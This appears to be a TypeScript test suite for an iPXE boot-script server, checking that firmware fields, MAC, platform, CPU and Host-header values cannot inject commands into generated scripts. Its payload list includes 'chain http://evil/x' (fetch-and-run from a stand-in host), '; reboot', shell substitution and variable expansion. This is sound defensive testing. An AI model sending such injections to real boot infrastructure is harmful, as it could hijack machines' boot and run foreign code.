import assert from 'node:assert/strict'
import { test } from 'node:test'
import { bootLab } from './boot-lab.ts'
import { readScript } from './ipxe-script.ts'

const EVIL = [
  '\nchain http://evil/x',
  '\r\nchain http://evil/x',
  '${ask}',
  '${net0/mac}',
  'x && chain http://evil/x',
  'x || exit 0',
  'x; reboot',
  '# x',
  '`id` $(id)',
  'x\' " x',
  '\u0000\u001b[2J',
  'x'.repeat(5000),
]
const FIELDS = ['uuid', 'serial', 'manufacturer', 'product', 'chip', 'buildarch']
const shape = (script: string) => readScript(script).map(({ name }) => name)

test('whatever firmware tells of itself, no script says it', async (t) => {
  const lab = await bootLab(t)
  const wait = (await lab.ask()).body
  await lab.accepted()
  const live = (await lab.ask()).body
  for (const field of FIELDS)
    for (const evil of EVIL) {
      const known = await lab.ask({ [field]: evil })
      assert.deepEqual(shape(known.body), shape(live), `${field}: ${evil}`)
      const fresh = await lab.ask({ macs: '52-54-00-00-00-99', uuid: '', [field]: evil })
      assert.deepEqual(shape(fresh.body), shape(wait), `${field}: ${evil}`)
      assert.doesNotMatch(known.body + fresh.body, /evil|reboot/)
    }
  const { boot } = await lab.machine('pc-000099')
  for (const text of Object.values(boot?.product ?? {})) {
    assert.match(text, /^[\x20-\x7e]*$/)
    assert.ok(text.length <= 80)
  }
})

test('a MAC address, a platform or a processor that is none is refused before anything is written', async (t) => {
  const { ask, machines } = await bootLab(t)
  for (const evil of EVIL)
    for (const field of ['macs', 'platform', 'cpu']) {
      const answer = await ask({ [field]: evil })
      assert.equal(answer.statusCode, 400, `${field}: ${evil}`)
      readScript(answer.body)
    }
  assert.deepEqual(await machines(), [])
})

test('a Host header that is no host name is not repeated: the address of the server stands there', async (t) => {
  const { app, accepted } = await bootLab(t)
  await accepted()
  const query = 'macs=52-54-00-00-00-01&platform=pcbios&cpu=x86_64'
  for (const host of ['a b', 'a\tb', 'a/../b', '${x}', 'a&&b', "a'b", 'a:80:80', '-a', 'a"b'])
    for (const url of ['/boot.ipxe', `/boot/script?${query}`]) {
      const { statusCode, body } = await app.inject({ url, headers: { host } })
      assert.equal(statusCode, 200, host)
      readScript(body)
      assert.equal(body.includes(`http://${host}`), false, host)
    }
})
